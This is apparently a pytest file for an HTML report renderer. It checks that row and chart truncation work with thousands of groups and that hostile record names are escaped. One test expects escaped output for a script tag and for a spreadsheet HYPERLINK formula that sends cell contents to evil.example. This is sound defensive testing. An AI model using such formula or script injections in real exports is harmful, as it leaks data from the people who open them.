"""What a record may hold and no page is made for: very many groups, names that run, turn round or never break, one finding alone."""

from __future__ import annotations

import re

import polars
import pytest

from transforms import report
from transforms.report import charts, fragments
from transforms.report.fragments import Column
from warehouse import reports

MANY = 1_000
#: Frames that hold a row or more a group that a company may have many of, and the column that names it.
GROUPED = {"team_handoff": "team", "change_breach": "team", "ingest_capacity": "business_unit", "ownership_currency": "dimension_value"}


@pytest.fixture(scope="session")
def many_groups(hostile_texts) -> dict[str, polars.DataFrame]:
    """The frames of the hostile record with each of its groups a thousand times over, under names of their own."""
    frames = reports.frames(hostile_texts)
    for name, column in GROUPED.items():
        frame = frames[name]
        copies = frame.filter(~polars.col(column).is_in(["all"])).join(polars.DataFrame({"copy": range(MANY)}), how="cross")
        assert copies.height >= MANY, name
        named = copies.with_columns(polars.concat_str([polars.col("copy").cast(polars.String).str.zfill(4), polars.col(column)], separator=" ").alias(column)).drop("copy")
        frames[name] = polars.concat([frame, named])
    return frames


@pytest.mark.parametrize("grain", ["week", "month", "quarter"])
def test_a_page_of_very_many_groups_is_short_and_says_how_many_there_are(many_groups, hostile_texts, grain):
    ordinary = report.render(reports.frames(hostile_texts), grain)
    page = report.render(many_groups, grain)
    assert len(page) < 2 * len(ordinary)
    assert re.search(r"and [0-9]{3} more", page)
    for body in re.findall(r"<tbody>.*?</tbody>", page, re.DOTALL):
        assert body.count("<tr>") <= fragments.MOST_ROWS + 1
    # Mail is short too.
    assert len(report.render_text(many_groups, grain)) < 2 * len(report.render_text(reports.frames(hostile_texts), grain))


def test_a_long_table_keeps_its_total():
    rows = [[f"row {number}", f"{number}"] for number in range(199)] + [["all", "19,701"]]
    cut = fragments.table("Rows", [Column("Row", False), Column("Figure")], rows)
    shown = re.findall(r'<th scope="row">(.*?)</th>', cut)
    assert shown == [*(f"row {number}" for number in range(49)), "all"]
    assert '<td class="more" colspan="2">and 150 more</td>' in cut
    assert "more" not in fragments.table("Rows", [Column("Row", False), Column("Figure")], rows[:50])


@pytest.mark.parametrize("draw", ["bars", "stacked_bars"])
def test_a_long_chart_says_what_it_leaves_out(draw):
    def drawn(amount: int) -> str:
        if draw == "bars":
            return charts.bars("c", "t", "d" * amount * 100, [charts.Bar(f"bar {number}", number, "x") for number in range(amount)])
        return charts.stacked_bars("c", "t", "d" * amount * 100, [(f"bar {number}", "x", {"a": number}) for number in range(amount)], {"a": "fill-plain"})

    assert drawn(25).count('class="label"') == 25 and "more" not in drawn(25)
    cut = drawn(500)
    assert cut.count('class="label"') == 26
    assert "bar 24</text>" in cut and "and 475 more</text>" in cut
    assert len(cut) < 20_000


@pytest.mark.parametrize("grain", ["week", "month", "quarter"])
def test_names_that_would_run_are_names(hostile_texts, grain):
    page = report.render(reports.frames(hostile_texts), grain)
    assert "<script" not in page and "&lt;script&gt;" in page
    assert "<bdi>=HYPERLINK(&#34;https://evil.example/?&#34;&amp;A1, &#34;open&#34;)</bdi>" in page
    # Cut, and isolated so that it turns nothing round that stands beside it.
    assert re.search(r"<bdi>(فريق حماية البيانات ){5}[^<]*…</bdi>", page)
    assert re.search(r"<bdi>Ä{240}…</bdi>", page)
